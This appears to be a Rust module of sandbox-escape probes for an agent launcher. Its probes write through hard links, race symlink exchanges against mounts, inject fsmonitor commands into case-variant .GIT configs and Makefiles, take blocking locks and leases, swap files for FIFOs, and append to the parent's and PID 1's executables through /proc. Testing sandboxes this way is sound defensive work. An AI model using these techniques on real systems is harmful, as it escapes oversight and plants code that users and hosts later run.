//! Probes of what a workspace can be made to do to others: links that stood before, names exchanged
//! under a reader, locks, pipes, build files, and the launcher's own program. Perl takes the lease,
//! for which no safe crate has a call. It must never know who follows or waits.

use std::fs;
use std::io::{self, Read as _, Write as _};
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::{Duration, Instant};

use rustix::fs::{CWD, FileType, FlockOperation, Mode, OFlags, RenameFlags};

use crate::helper::{again, finish, hold, perl};
use crate::{Expect, HOLD, Need, Params, Probe, step};

pub(crate) const PROBES: &[Probe] = &[
    Probe {
        id: "fs.hardlink-existing",
        what: "Writes into a workspace file that has a second name outside.",
        why: "A hard link is the file itself: what is written inside is written outside.",
        relaxed: Expect::HoldOrDegraded,
        strict: Expect::HoldOrDegraded,
        observer: "the host re-reads the file by its name outside; what the launcher says of it",
        action: |params| {
            let mut file = fs::OpenOptions::new().append(true).open(params.target()?)?;
            writeln!(file, "{}", params.content()?)?;
            Ok("wrote".into())
        },
        ..HOLD
    },
    Probe {
        id: "fs.race-exchange",
        what: "Reads through a name that is a folder and a link to the outside by turns.",
        why: "What looked at a path and then opens it opens something else.",
        references: &["CVE-2021-30465 (secondary source)"],
        observer: "the outside file's random content comes out of the sandbox",
        action: race,
        ..HOLD
    },
    Probe {
        id: "fs.bind-source-swap",
        what: "Reads a protected folder that another process exchanges with a link to the outside \
               while the sandbox is built.",
        why: "A launcher that follows the link mounts the outside into the view.",
        references: &["CVE-2021-30465 (secondary source)"],
        observer: "the outside file's random content comes out of the sandbox",
        action: |params| {
            let path = params.target()?.join("k");
            read_within(&path, Duration::from_millis(120))
        },
        ..HOLD
    },
    Probe {
        id: "fs.case-variant",
        what: "Adds a program to run to the configuration in .GIT, and in .git by that name.",
        why: "Where letter case does not count, now or on the next machine, it is git's own file.",
        references: &["CVE-2025-59944 (secondary source)"],
        observer: "the host re-reads both configurations",
        action: |params| {
            let mut changed = 0;
            for config in [".GIT/config", "vendor/odd/.GIT/config"] {
                let path = params.workspace.join(config);
                let file = fs::OpenOptions::new().append(true).open(path);
                if let Ok(mut file) = file {
                    writeln!(file, "[core]\n\tfsmonitor = {}", params.content()?)?;
                    changed += 1;
                }
            }
            if changed > 0 {
                Ok(format!("changed {changed}"))
            } else {
                Err(io::Error::other("neither can be written"))
            }
        },
        ..HOLD
    },
    Probe {
        id: "fs.build-hooks",
        what: "Adds a command to the workspace's Makefile.",
        why: "The user's next build runs it; no sandbox can tell it from the work asked for.",
        relaxed: Expect::Residual,
        strict: Expect::Residual,
        observer: "the host re-reads the Makefile",
        action: |params| {
            let path = params.workspace.join("Makefile");
            fs::write(path, format!("all:\n\techo {}\n", params.content()?))?;
            Ok("changed it".into())
        },
        ..HOLD
    },
    Probe {
        id: "fs.flock-ro",
        what: "Takes an exclusive lock on a file that it may only read.",
        why: "Programs of the host that lock the same file wait.",
        relaxed: Expect::Residual,
        strict: Expect::Residual,
        observer: "the host tries the same lock",
        action: |params| {
            let file = fs::File::open(params.target()?)?;
            rustix::fs::flock(&file, FlockOperation::NonBlockingLockExclusive)?;
            hold(params)?;
            Ok("locked".into())
        },
        ..HOLD
    },
    Probe {
        id: "fs.lease-ro",
        what: "Takes a lease on a file of the user's that it may only read.",
        why: "Whoever opens the file to write waits, by default for 45 seconds.",
        relaxed: Expect::HoldOrDegraded,
        strict: Expect::HoldOrDegraded,
        needs: &[Need::Perl],
        observer: "the host opens the file to write, without waiting",
        action: lease,
        ..HOLD
    },
    Probe {
        id: "fs.fifo-bait",
        what: "Replaces a workspace file by a named pipe.",
        why: "The next program that reads the file waits for ever, the agent itself first.",
        observer: "the host opens the name for reading, and the launcher comes to its end",
        action: |params| {
            let path = params.target()?;
            let _ = fs::remove_file(path);
            rustix::fs::mknodat(CWD, path, FileType::Fifo, Mode::from_raw_mode(0o644), 0)?;
            Ok("left a pipe".into())
        },
        ..HOLD
    },
    Probe {
        id: "fs.pid1-exe",
        what: "Writes into the programs of its parent and of process 1 through /proc, at once and \
               when they have ended.",
        why: "The next launch of that program is the attacker's.",
        references: &["CVE-2019-5736 (secondary source)"],
        needs: &[Need::Launch],
        observer: "the host re-reads the launcher's programs",
        action: launcher_program,
        ..HOLD
    },
];

/// Shows a file as soon as it can be read.
fn read_within(path: &Path, time: Duration) -> io::Result<String> {
    let begin = Instant::now();
    loop {
        match fs::read_to_string(path) {
            Ok(text) => {
                println!("{text}");
                return Ok(format!("read {}", path.display()));
            }
            Err(error) if begin.elapsed() > time => return Err(error),
            Err(_) => {}
        }
    }
}

fn race(params: &Params) -> io::Result<String> {
    let (folder, link) = (params.workspace.join("by-turns"), params.workspace.join("turned"));
    fs::create_dir_all(&folder)?;
    symlink(params.target()?, &link)?;
    let mut child = again("exchange")
        .arg(&folder)
        .arg(&link)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .spawn()?;
    let read = read_within(&folder.join("k"), Duration::from_millis(250));
    let _ = child.kill();
    let _ = child.wait();
    read
}

/// How long names are exchanged at most: an agent may take as long until its tool looks at them.
const EXCHANGE: Duration = Duration::from_secs(90);

/// Exchanges two names as fast as it can, until it is ended.
pub(crate) fn exchange(one: &Path, other: &Path) -> io::Result<()> {
    let begin = Instant::now();
    while begin.elapsed() < EXCHANGE {
        rustix::fs::renameat_with(CWD, one, CWD, other, RenameFlags::EXCHANGE)?;
        std::thread::sleep(Duration::from_micros(200));
    }
    Ok(())
}

fn lease(params: &Params) -> io::Result<String> {
    let script = r#"my ($file, $hold, $release) = @ARGV; $SIG{IO} = "IGNORE";
        open(my $f, "<", $file) or die "open: $!\n";
        fcntl($f, 1024, 0) or die "lease: $!\n";
        open(my $h, ">", $hold); close $h;
        for (1..800) { last if -e $release; select(undef, undef, undef, 0.01) }"#;
    let text = |path: PathBuf| path.to_string_lossy().into_owned();
    let file = text(params.target()?.to_owned());
    let (hold, release) =
        (text(step::of(params, step::hold)), text(step::of(params, step::release)));
    finish(perl(script, &[&file, &hold, &release])?)
}

fn launcher_program(params: &Params) -> io::Result<String> {
    let mut child = again("overwrite")
        .args([std::os::unix::process::parent_id().to_string().as_str(), params.content()?])
        .arg(&params.token)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()?;
    let mut word = String::new();
    if let Some(pipe) = &mut child.stdout {
        let mut byte = [0];
        let _ = pipe.read(&mut byte)?;
        word.push(char::from(byte[0]));
    }
    if word == "+" {
        Ok("left one that waits for its launcher's end".into())
    } else {
        Err(io::Error::other("no program can be opened through /proc"))
    }
}

/// Keeps the programs of that process and of process 1 by a descriptor and appends to them: now,
/// and when the process is gone. Says `+` when it has one.
pub(crate) fn overwrite(parent: &str, text: &str) -> io::Result<()> {
    let _ = rustix::process::setsid();
    let mut kept = Vec::new();
    for pid in [parent, "1"] {
        let exe = format!("/proc/{pid}/exe");
        kept.extend(rustix::fs::open(exe, OFlags::PATH, Mode::empty()));
    }
    println!("{}", if kept.is_empty() { "-" } else { "+" });
    let begin = Instant::now();
    let append = || {
        for file in &kept {
            use std::os::fd::AsRawFd as _;
            let again = format!("/proc/self/fd/{}", file.as_raw_fd());
            if let Ok(mut file) = fs::OpenOptions::new().append(true).open(again) {
                let _ = file.write_all(text.as_bytes());
            }
        }
    };
    append();
    while Path::new(&format!("/proc/{parent}")).exists() && begin.elapsed() < Duration::from_secs(4)
    {
        std::thread::sleep(Duration::from_millis(5));
    }
    std::thread::sleep(Duration::from_millis(5));
    append();
    Ok(())
}
